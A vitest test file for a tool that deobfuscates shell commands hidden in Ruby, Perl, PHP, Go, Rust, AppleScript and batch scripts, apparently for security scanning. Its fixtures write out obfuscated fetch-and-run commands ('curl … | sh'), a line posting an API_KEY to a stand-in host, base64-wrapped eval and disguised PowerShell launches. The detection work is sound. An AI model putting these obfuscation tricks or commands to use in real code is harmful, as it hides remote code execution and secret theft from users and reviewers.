import { describe, expect, test } from "vitest";
import type { Language } from "../../../src/model/language.ts";
import { readScript } from "../../../src/read/read-script.ts";
import { only, say } from "./say.ts";

const handed = (language: Language, text: string): readonly string[] => say(readScript, language, text).handed;

describe("a command is put together before the shell reader gets it", () => {
  test.each<[Language, string, string]>([
    ["ruby", `u = "http://" + "a.example"\nsystem "curl #{u}/x | sh"`, "shell curl http://a.example/x | sh"],
    ["ruby", `u = "http://"\nu << "a.example"\n\`curl #{u}\``, "shell curl http://a.example"],
    ["ruby", `c = "c#url a"\nc.gsub!("#", "")\nsystem(c)`, "shell curl a"],
    ["perl", `my $c = "phey n"; $c =~ tr/a-z/n-za-m/; system($c);`, "shell curl a"],
    ["ruby", `system(["cu", "rl a.example"].join)`, "shell curl a.example"],
    ["ruby", `system "elpmaxe.a lruc".reverse`, "shell curl a.example {reversed}"],
    ["ruby", `system [99, 117, 114, 108, 32, 97].pack("c*")`, "shell curl a {char-codes}"],
    ["ruby", `system ["6375726c2061"].pack("H*")`, "shell curl a {hex}"],
    ["ruby", `system "Y3VybCBh".unpack1("m")`, "shell curl a {base64}"],
    ["ruby", `system "phey n".tr("a-z", "n-za-m")`, "shell curl a"],
    ["ruby", `system "curl %s" % "a.example"`, "shell curl a.example"],
    ["ruby", `system "\\x63\\x75\\x72\\x6c a"`, "shell curl a {escapes}"],
    ["ruby", `send("sys" + "tem", "curl a")`, "shell @21 curl a"],
    ["ruby", `Kernel.public_send(:system, "curl a")`, "shell @29 curl a"],
    ["ruby", `method(:system).call("curl a")`, "shell @22 curl a"],
    ["ruby", `def go(x)\n  system("curl #{x}")\nend\ngo("a.example")`, "shell curl a.example"],
    ["ruby", `go("a.example")\ndef go(x)\n  system("curl #{x}")\nend`, "shell curl a.example"],
    ["ruby", `x = <<~EOS\n  curl a.example\nEOS\nsystem(x)`, "shell @11   curl a.example\n"],
    ["perl", `my $u = "http://" . "a.example"; system("curl $u | sh");`, "shell curl http://a.example | sh"],
    ["perl", `my $c = join("", map { chr } (99,117,114,108,32,97)); system($c);`, "shell curl a {char-codes}"],
    ["perl", `system(scalar reverse("a lruc"));`, "shell curl a {reversed}"],
    ["perl", `(my $c = "phey n") =~ tr/a-z/n-za-m/; exec("curl a");`, "shell @44 curl a"],
    ["perl", `my %h = (a => "curl a"); system($h{a});`, "shell @15 curl a"],
    ["perl", `sub f { my ($x) = @_; system("curl $x"); } f("a.example");`, "shell curl a.example"],
    ["perl", `sub f { my $x = shift; system("curl $x"); } f("a.example");`, "shell curl a.example"],
    ["perl", `print qx{curl a};`, "shell @9 curl a"],
    ["php", `<?php $f = "sys"."tem"; $f("curl a");`, "shell @28 curl a"],
    ["php", `<?php system(base64_decode("Y3VybCBh"));`, "shell curl a {base64}"],
    ["php", `<?php system(strrev("a lruc"));`, "shell curl a {reversed}"],
    ["php", `<?php system(str_rot13("phey n"));`, "shell curl a {rot13}"],
    ["php", `<?php system(implode("", ["cu", "rl a"]));`, "shell curl a"],
    ["php", `<?php system(str_replace("#", "", "cu#rl a"));`, "shell curl a"],
    ["php", `<?php call_user_func("sys"."tem", "curl a");`, "shell @35 curl a"],
    ["php", `<?php array_map("system", ["curl a"]);`, "shell @28 curl a"],
    ["php", `<?php \\system("curl a");`, "shell @15 curl a"],
    ["php", "<?php echo `curl a`;", "shell @12 curl a"],
    ["php", `system("curl a");`, "shell @8 curl a"],
    [
      "go",
      `package main\nfunc main() {\n u := "a.example"\n exec.Command("sh", "-c", "curl "+u).Run()\n}`,
      "shell curl a.example",
    ],
    [
      "go",
      `package main\nimport run "os/exec"\nfunc main() { run.Command("bash", "-c", fmt.Sprintf("curl %s", "a")).Run() }`,
      "shell curl a",
    ],
    [
      "rust",
      `fn main() { let u = "a"; Command::new("sh").arg("-c").arg(format!("curl {u}")).spawn(); }`,
      "shell curl a",
    ],
    [
      "rust",
      `use std::process::Command as C;\nfn main() { C::new("sh").arg("-c").arg(format!("curl {}", "a")).spawn(); }`,
      "shell curl a",
    ],
    ["rust", `fn main() { std::process::Command::new("sh").args(["-c", "curl a"]).output(); }`, "shell curl a"],
    ["applescript", `set u to "a.example"\ndo shell script "curl " & u & " | sh"`, "shell curl a.example | sh"],
    ["applescript", `do shell script (character id {99, 117, 114, 108, 32, 97})`, "shell curl a {char-codes}"],
    ["applescript", `DO SHELL SCRIPT "curl a" -- comment`, "shell @17 curl a"],
    ["applescript", `tell application "Terminal" to do script "curl a"`, "shell @42 curl a"],
  ])("%s: %s", (language, text, expected) => {
    expect(handed(language, text)).toEqual([expected]);
  });

  test("a key that goes into a command is put there as the shell would write it", () => {
    expect(handed("ruby", 'system("curl -d #{ENV["API_KEY"]} https://c.example")')).toEqual([
      "shell curl -d ${API_KEY} https://c.example",
    ]);
  });

  test("what was decoded and run is read as what it is", () => {
    expect(handed("php", `<?php eval(gzinflate(base64_decode("S03OyFcoSS0uAQA=")));`)).toEqual([
      "php echo test {gzip}",
    ]);
    expect(handed("ruby", `eval(Base64.decode64("c3lzdGVtKCdpZCcp"))`)).toEqual(["ruby system('id') {base64}"]);
    expect(handed("perl", `eval(decode_base64("cHJpbnQgMQ=="));`)).toEqual(["perl print 1 {base64}"]);
  });
});

describe("batch", () => {
  const spawned = (text: string): readonly string[] => only(say(readScript, "batch", text), "spawn");

  test.each([
    ["carets", "p^o^w^e^r^s^h^e^l^l -v", "1:1 program=powershell arguments=[-v] shell=false"],
    ["variables", "set a=pow& set b=ershell\n%a%%b% -v", "2:1 program=powershell arguments=[-v] shell=false"],
    ["delayed variables", "set a=powershell\n!a! -v", "2:1 program=powershell arguments=[-v] shell=false"],
    [
      "letters cut out",
      "set k=abcdlru\n%k:~2,1%%k:~6,1%%k:~5,1%%k:~4,1% a",
      "2:1 program=curl arguments=[a] shell=false",
    ],
    ["letters of a usual variable", "%comspec:~-7,3% /c", "1:1 program=cmd arguments=[/c] shell=false"],
    ["replaced letters", "set k=cu#rl\n%k:#=% a", "2:1 program=curl arguments=[a] shell=false"],
    [
      "a path",
      "C:\\Windows\\System32\\curl.exe a",
      "1:1 program=C:\\Windows\\System32\\curl.exe arguments=[a] shell=false",
    ],
    ["if and brackets", "if exist x (\n  curl a\n) else (curl b)", "2:3 program=curl arguments=[a] shell=false"],
    ["start", 'start "" /min curl a', "1:1 program=curl arguments=[a] shell=false"],
    ["a continued line", "cu^\nrl.exe a", "1:1 program=cu arguments=[rl.exe, a] shell=false"],
  ])("%s", (_, text, expected) => {
    expect(spawned(text)[0]).toBe(expected);
  });

  test.each(["rem curl a", ":: curl a", "@rem curl a", "echo curl a", "  :label"])("%s starts nothing", (text) => {
    expect(say(readScript, "batch", text).lines).toEqual([]);
  });
});
